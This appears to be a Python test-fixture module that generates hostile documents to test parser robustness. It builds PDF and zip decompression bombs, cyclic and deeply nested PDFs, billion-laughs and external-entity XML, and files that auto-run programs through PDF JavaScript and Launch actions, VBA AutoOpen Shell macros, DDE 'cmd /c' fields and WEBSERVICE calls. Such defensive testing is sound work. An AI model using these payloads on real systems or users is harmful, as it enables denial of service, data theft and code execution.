"""Documents made to harm whoever opens them: bombs, circles, lies, and programs that are waiting to be started."""

from __future__ import annotations

import random
import struct
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

from tests.knowledge.helpers import MAGNETS, PLANTS, archive, docx, epub, odt, pptx, shape, with_part, word, xlsx

MEGA = 2**20


# --- PDF -------------------------------------------------------------------------------------------------------------
def raw_pdf(path: Path, objects: dict[int, bytes], *, trailer: bytes = b"/Root 1 0 R", end: bytes = b"%%EOF\n") -> Path:
    """A PDF of these objects, with a table of where they lie; `{here}` in the trailer is where that table lies."""
    data, places = bytearray(b"%PDF-1.7\n"), {}
    for number, body in objects.items():
        places[number] = len(data)
        data += b"%d 0 obj\n%b\nendobj\n" % (number, body)
    size, here = max(objects) + 1, len(data)
    data += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for number in range(1, size):
        data += b"%010d 00000 n \n" % places[number] if number in places else b"0000000000 65535 f \n"
    told = trailer.replace(b"{here}", b"%d" % here)
    path.write_bytes(bytes(data) + b"trailer\n<</Size %d %b>>\nstartxref\n%d\n" % (size, told, here) + end)
    return path


def stream(content: bytes, entries: bytes = b"") -> bytes:
    return b"<<%b/Length %d>>\nstream\n%b\nendstream" % (entries, len(content), content)


def words_of(text: str) -> bytes:
    return f"BT /F 12 Tf 50 500 Td ({text}) Tj ET\n".encode()


def page_of(content: bytes, resources: bytes = b"", more: dict[int, bytes] | None = None) -> dict[int, bytes]:
    """One page whose content is this stream object; further objects from 6 on."""
    return {
        1: b"<</Type/Catalog/Pages 2 0 R>>",
        2: b"<</Type/Pages/Count 1/Kids[3 0 R]>>",
        3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 400 600]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>%b>>>>" % resources,
        4: content,
        5: b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
        **(more or {}),
    }


def deflated(megabytes: int, byte: bytes, then: bytes = b"") -> bytes:
    packer = zlib.compressobj(9)
    run = byte * MEGA
    return b"".join(packer.compress(run) for _ in range(megabytes)) + packer.compress(then) + packer.flush()


def lzw(parts: list[bytes], run: int = 0) -> bytes:
    """LZW as PDF has it: `run` times about three and a half megabytes of spaces in some kilobytes each, then the parts."""
    bits: list[tuple[int, int]] = [(256, 9)]
    for _ in range(run):
        bits.append((32, 9))
        # Each code stands for one space more than the one before it.
        bits += [(code, 9 + (code >= 511) + (code >= 1023) + (code >= 2047)) for code in range(258, 2900)]
        bits.append((256, 12))
    for number, byte in enumerate(b"".join(parts)):
        if number and number % 200 == 0:
            bits.append((256, 9))
        bits.append((byte, 9))
    bits.append((257, 9))
    made, held, room = bytearray(), 0, 0
    for code, width in bits:
        held, room = held << width | code, room + width
        while room >= 8:
            room -= 8
            made.append(held >> room)
            held &= (1 << room) - 1
    if room:
        made.append(held << (8 - room))
    return bytes(made)


def _circles(folder: Path) -> None:
    good = page_of(stream(words_of(PLANTS)))
    raw_pdf(folder / "xref to itself.pdf", good, trailer=b"/Root 1 0 R/Prev {here}")
    raw_pdf(folder / "xref and stream to itself.pdf", good, trailer=b"/Root 1 0 R/Prev {here}/XRefStm {here}")
    raw_pdf(folder / "pages in pages.pdf", good | {2: b"<</Type/Pages/Count 9/Kids[2 0 R 3 0 R 2 0 R]/Parent 2 0 R>>"})
    raw_pdf(folder / "length of itself.pdf", good | {4: b"<</Length 4 0 R>>\nstream\nBT ET\nendstream"})
    draws = b"/XObject<</X 6 0 R>>"
    form = b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X %d 0 R>>>>"
    circle = page_of(stream(b"/X Do"), draws, {6: stream(b"/X Do /X Do", form % 7), 7: stream(b"/X Do /X Do", form % 6)})
    raw_pdf(folder / "forms in forms.pdf", circle)
    laughs = {number: stream(b"/X Do " * 10, form % (number + 1)) for number in range(6, 16)}
    laughs[16] = stream(words_of("ha") * 10, b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</Font<</F 5 0 R>>>>")
    raw_pdf(folder / "ten forms in each of ten.pdf", page_of(stream(b"/X Do"), draws, laughs))
    raw_pdf(folder / "object in itself.pdf", good | {3: b"3 0 R"})
    raw_pdf(folder / "stream of objects in itself.pdf", good | {6: stream(b"6 0 ", b"/Type/ObjStm/N 1/First 4/Extends 6 0 R")})


def _bombs(folder: Path) -> None:
    words = words_of(PLANTS)
    raw_pdf(folder / "lzw.pdf", page_of(stream(lzw([words], run=150), b"/Filter/LZWDecode")))
    twice = lzw([lzw([words], run=3)])
    raw_pdf(folder / "lzw in lzw.pdf", page_of(stream(twice, b"/Filter[/LZWDecode/LZWDecode]")))
    # A pair of bytes 129 stands for 128 times the byte 129, and so do these, read as pairs, once more.
    for depth in (1, 3, 6):
        raw_pdf(
            folder / f"run length {depth}.pdf",
            page_of(stream(bytes([129]) * 100_000 + b"\x80", b"/Filter[%b]" % (b"/RunLengthDecode" * depth))),
        )
    flat = zlib.compress(deflated(400, b"\0"), 9)
    raw_pdf(folder / "flate in flate.pdf", page_of(stream(flat, b"/Filter[/FlateDecode/FlateDecode]")))
    raw_pdf(folder / "flate.pdf", page_of(stream(deflated(700, b" ", words), b"/Filter/FlateDecode")))
    wide = b"/Filter/FlateDecode/DecodeParms<</Predictor 15/Columns 2147483647/Colors 32/BitsPerComponent 16>>"
    raw_pdf(folder / "predictor.pdf", page_of(stream(zlib.compress(bytes(9 * MEGA)), wide)))
    raw_pdf(folder / "many words.pdf", page_of(stream(zlib.compress(words * 400_000, 9), b"/Filter/FlateDecode")))
    spread = (
        b"1 begincodespacerange <00000000><ffffffff> endcodespacerange 1 beginbfrange <00000000><ffffffff><0041> endbfrange "
    )
    mapped = {5: b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica/ToUnicode 6 0 R>>", 6: stream(spread * 100)}
    raw_pdf(folder / "every character mapped.pdf", page_of(stream(words), more=mapped))


def _inline_images(folder: Path) -> None:
    for name, image in {
        "no end": b"BI /W 100000 /H 100000 /BPC 8 /CS /RGB ID " + bytes(2000),
        "negative": b"BI /W -1 /H -1 /BPC -8 /CS /G ID abc EI " + words_of(PLANTS),
        "enormous": b"BI /W 2147483647 /H 2147483647 /BPC 16 /CS /CMYK /F [/AHx /LZW /RL /Fl] ID abc\nEI " + words_of(PLANTS),
        "filters": b"BI /W 9 /H 9 /BPC 8 /CS /G /F [" + b"/A85 " * 5000 + b"] ID abc\nEI " + words_of(PLANTS),
        "in one another": b"BI " * 20_000 + b"ID EI",
        "very many": b"BI /W 1 /H 1 /BPC 8 /CS /G ID a EI\n" * 100_000 + words_of(PLANTS),
    }.items():
        raw_pdf(folder / f"inline image {name}.pdf", page_of(stream(image)))


def _broken_pdfs(folder: Path) -> None:
    good = page_of(stream(words_of(PLANTS)))
    raw_pdf(folder / "no end.pdf", good, end=b"")
    raw_pdf(folder / "enormous size.pdf", good, trailer=b"/Root 1 0 R/Size 2147483647")
    raw_pdf(folder / "enormous count.pdf", good | {2: b"<</Type/Pages/Count 2147483647/Kids[3 0 R]>>"})
    raw_pdf(folder / "negative count.pdf", good | {2: b"<</Type/Pages/Count -5/Kids[3 0 R]>>"})
    raw_pdf(folder / "deep array.pdf", good | {6: b"[" * 500_000})
    raw_pdf(folder / "deep dictionary.pdf", good | {3: b"<</Type/Page/Parent 2 0 R/A " + b"<</A " * 300_000})
    raw_pdf(folder / "deep content.pdf", page_of(stream(b"q " * 1_000_000 + b"[" * 500_000)))
    wide = stream(bytes(2000), b"/Type/XRef/W[8 8 8]/Index[0 2147483647]/Size 2147483647/Root 1 0 R")
    path = raw_pdf(folder / "table as stream.pdf", good | {6: wide})
    data = path.read_bytes()
    path.write_bytes(data[: data.index(b"xref\n")] + b"startxref\n%d\n%%%%EOF\n" % data.index(b"6 0 obj"))
    packed = stream(zlib.compress(b"7 0 8 999999999 "), b"/Type/ObjStm/N 2147483647/First 16/Filter/FlateDecode")
    raw_pdf(folder / "stream of very many objects.pdf", good | {6: packed})


def pdfs(folder: Path) -> list[Path]:
    """Each of them a file that a parser has died of, by its kind."""
    folder.mkdir()
    for make in (_circles, _bombs, _inline_images, _broken_pdfs):
        make(folder)
    return sorted(folder.iterdir())


# --- archives --------------------------------------------------------------------------------------------------------
def many_entries(path: Path, count: int = 100_000) -> Path:
    with zipfile.ZipFile(path, "w") as made:
        made.writestr("word/document.xml", "<a/>")
        for number in range(count):
            made.writestr(f"word/{number}.xml", b"")
    return path


def one_entry_many_times(path: Path, count: int = 4000) -> Path:
    """A directory in which very many names lead to the same megabyte: four gigabytes unpacked, of a small file."""
    archive(path, {"word/document.xml": b"a" * MEGA})
    data = path.read_bytes()
    at = data.index(b"PK\1\2")
    end = data.index(b"PK\5\6")
    entry = bytearray(data[at:end])
    listed = b""
    for number in range(count):
        name = b"word/documen%05d" % number
        copy = entry[:46] + name
        copy[28:30] = struct.pack("<H", len(name))
        listed += copy
    tail = bytearray(data[end:])
    tail[8:20] = struct.pack("<HHII", count, count, len(listed), at)
    path.write_bytes(data[:at] + listed + tail)
    return path


def liar(path: Path, claimed: int, megabytes: int = 60) -> Path:
    """A part of so many megabytes that says, in both of its headers, that it has another size."""
    archive(path, {"[Content_Types].xml": "<Types/>", "word/document.xml": b"<a>" + b"b" * (megabytes * MEGA) + b"</a>"})
    data = bytearray(path.read_bytes())
    true = struct.pack("<I", megabytes * MEGA + 7)
    assert data.count(true) >= 1
    path.write_bytes(bytes(data).replace(true, struct.pack("<I", claimed)))
    return path


def matryoshka(path: Path, levels: int = 8) -> Path:
    """Archives inside archives, each holding ten of the next."""
    inner = b"a" * MEGA
    for level in range(levels):
        part = path.with_suffix(f".{level}")
        archive(part, {f"word/{number}.zip": inner for number in range(10)})
        inner = part.read_bytes()
        part.unlink()
    archive(path, {"word/inner.docx": inner, "word/document.xml": "<a/>"})
    return path


def swelling(path: Path) -> Path:
    """Forty megabytes of the smallest elements: within every limit of an archive, and gigabytes as a tree."""
    chance = random.Random(1)
    salt = "".join(f"<{chr(97 + chance.randrange(26))}{chance.randrange(100)}/>" for _ in range(400_000))
    body = f'<w:document xmlns:w="w"><w:body>{salt * 18}</w:body></w:document>'
    return archive(path, {"word/document.xml": body})


def archives(folder: Path) -> list[Path]:
    folder.mkdir()
    many_entries(folder / "very many parts.docx")
    one_entry_many_times(folder / "one part very many times.docx")
    liar(folder / "says less.docx", 1024)
    liar(folder / "says more.docx", 2**31, megabytes=1)
    liar(folder / "says next to nothing.epub", 1)
    matryoshka(folder / "archives in archives.docx")
    swelling(folder / "swelling.docx")
    for kind, part in {"docx": "word/document.xml", "odt": "content.xml", "xlsx": "xl/workbook.xml"}.items():
        archive(folder / f"two hundred megabytes.{kind}", {part: b"a" * (200 * MEGA)})
    archive(folder / "two hundred megabytes.epub", {"META-INF/container.xml": "<a/>", "a.xhtml": b"a" * (200 * MEGA)})
    return sorted(folder.iterdir())


# --- XML -------------------------------------------------------------------------------------------------------------
def laughs(levels: int = 10) -> tuple[str, str]:
    """Ten times ten times ... : billions of words in a kilobyte. The declaration, and what uses it."""
    told = "".join(f'<!ENTITY l{level} "{f"&l{level - 1};" * 10}">' for level in range(1, levels))
    return f'<!DOCTYPE x [<!ENTITY l0 "lol">{told}]>', f"&l{levels - 1};"


def with_entities(folder: Path, addresses: list[str]) -> list[Path]:
    """Every kind that is made of XML: with entities that name these addresses, with a DTD there, and with ten levels of ten."""
    folder.mkdir()
    seeds: dict[str, tuple[Callable[[Path], Path], str]] = {
        "docx": (lambda path: docx(path, [(0, PLANTS)]), "word/document.xml"),
        "pptx": (lambda path: pptx(path, [shape(PLANTS)]), "ppt/slides/slide1.xml"),
        "xlsx": (lambda path: xlsx(path, {"S": [[PLANTS]]}), "xl/sharedStrings.xml"),
        "epub": (lambda path: epub(path, {"a.xhtml": f"<html><body><p>{PLANTS}</p></body></html>"}), "OPS/book.opf"),
        "odt": (lambda path: odt(path, f"<text:p>{PLANTS}</text:p>"), "content.xml"),
    }
    head, used = laughs()
    declared = {"laughs": (head, used), "no declaration of its own": (f'<!DOCTYPE x SYSTEM "{addresses[0]}">', "")}
    for number, address in enumerate(addresses):
        declared[f"entity {number}"] = (f'<!DOCTYPE x [<!ENTITY e SYSTEM "{address}">]>', "&e;")
        declared[f"parameter {number}"] = (f'<!DOCTYPE x [<!ENTITY % e SYSTEM "{address}"> %e;]>', "")
        declared[f"public {number}"] = (f'<!DOCTYPE x PUBLIC "-//W3C//DTD XHTML 1.0//EN" "{address}" []>', "")
    for kind, (make, part) in seeds.items():
        for what, (doctype, use) in declared.items():
            path = make(folder / f"{what}.{kind}")
            with zipfile.ZipFile(path) as held:
                body = held.read(part).decode("utf-8")
            start = body.index("?>") + 2 if body.startswith("<?xml") else 0
            inside = body.index(">", start) + 1
            made = f"{body[:start]}{doctype}{body[start:inside]}{use}{body[inside:]}"
            with_part(path, part, made.encode())
    return sorted(folder.iterdir())


# --- what waits to be started ----------------------------------------------------------------------------------------
def active(folder: Path, program: Path, address: str) -> dict[Path, str]:
    """Documents that ask to start a program, to run a script or to fetch an address, and the words each of them holds."""
    folder.mkdir()
    script = f"app.launchURL('{address}'); this.exportDataObject({{cName:'{program}', nLaunch:2}});"
    actions = {
        1: b"<</Type/Catalog/Pages 2 0 R/OpenAction 6 0 R/AA<</WC 7 0 R>>/Names<</JavaScript<</Names[(a)6 0 R]>>>>>>",
        6: f"<</S/JavaScript/JS({script.replace('(', chr(92) + '(').replace(')', chr(92) + ')')})/Next 7 0 R>>".encode(),
        7: f"<</S/Launch/F({program})/Unix<</F({program})>>/Next 8 0 R>>".encode(),
        8: f"<</S/URI/URI({address})/Next 9 0 R>>".encode(),
        9: f"<</S/SubmitForm/F({address})>>".encode(),
    }
    page = page_of(stream(words_of(PLANTS)))
    page[3] = page[3].replace(b"/Contents", b"/AA<</O 6 0 R>>/Annots[10 0 R]/Contents")
    link = {10: b"<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A 7 0 R>>"}
    found = {raw_pdf(folder / "actions.pdf", page | actions | link): PLANTS}
    project = b'Attribute VB_Name = "ThisDocument"\nSub AutoOpen(): Shell "%b": End Sub' % str(program).encode()
    macros = {"vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + project, "activeX/activeX1.bin": project}

    def more(path: Path, at: str, parts: dict[str, bytes]) -> Path:
        with zipfile.ZipFile(path, "a") as held:
            for name, content in parts.items():
                held.writestr(f"{at}/{name}", content)
        return path

    found[more(word(folder / "macros.docm", f"<w:p><w:r><w:t>{PLANTS}</w:t></w:r></w:p>"), "word", macros)] = PLANTS
    found[more(xlsx(folder / "macros.xlsm", {"S": [[PLANTS]]}), "xl", macros)] = PLANTS
    found[more(pptx(folder / "macros.pptm", [shape(MAGNETS)]), "ppt", macros)] = MAGNETS
    outside = f"<externalLink><externalBook/><ddeLink ddeService='cmd' ddeTopic='/c {program}'/></externalLink>".encode()
    cell = f"<c r='B1' t='str'><f>WEBSERVICE(\"{address}\")</f><v>five</v></c>"
    dde = f"<c r='C1' t='str'><f>cmd|'/c {program}'!A0</f><v>six</v></c>"
    linked = xlsx(folder / "external link.xlsx", {"S": [[PLANTS, cell, dde]]})
    link_out = f'<Relationship Id="r" Type="x/externalLinkPath" Target="{address}" TargetMode="External"/>'
    target = f"<Relationships>{link_out}</Relationships>"
    parts = {"externalLinks/externalLink1.xml": outside, "externalLinks/_rels/externalLink1.xml.rels": target.encode()}
    found[more(linked, "xl", parts)] = PLANTS
    field = f'<w:p><w:fldSimple w:instr="DDEAUTO {program} x"><w:r><w:t>{PLANTS}</w:t></w:r></w:fldSimple></w:p>'
    found[word(folder / "field.docx", field)] = PLANTS
    return found


def pdf_with_map(path: Path, named: str) -> Path:
    """A PDF whose font names a file as the table of its characters, as a path would be written in a name, and as a string."""
    escaped = "".join(f"#{ord(letter):02x}" if letter in "/. #" else letter for letter in named)
    font = f"<</Type/Font/Subtype/Type0/BaseFont/X/Encoding/{escaped}/DescendantFonts[6 0 R]/ToUnicode/{escaped}>>".encode()
    inner = f"/Type/CMap/CMapName/{escaped}/UseCMap/{escaped}"
    more = {
        5: font,
        6: b"<</Type/Font/Subtype/CIDFontType2/BaseFont/X/CIDSystemInfo<</Registry(%b)/Ordering(%b)/Supplement 0>>>>"
        % (named.encode(), named.encode()),
        7: stream(f"/{escaped} usecmap".encode(), inner.encode()),
        8: b"<</Type/Font/Subtype/Type0/BaseFont/X/Encoding 7 0 R/DescendantFonts[6 0 R]>>",
        9: b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
    }
    content = b"BT /F 12 Tf (abc) Tj /G 12 Tf (abc) Tj ET BT /H 12 Tf 50 400 Td (%b) Tj ET" % PLANTS.encode()
    made = page_of(stream(content), more=more)
    made[3] = made[3].replace(b"/F 5 0 R", b"/F 5 0 R/G 8 0 R/H 9 0 R")
    return raw_pdf(path, made)
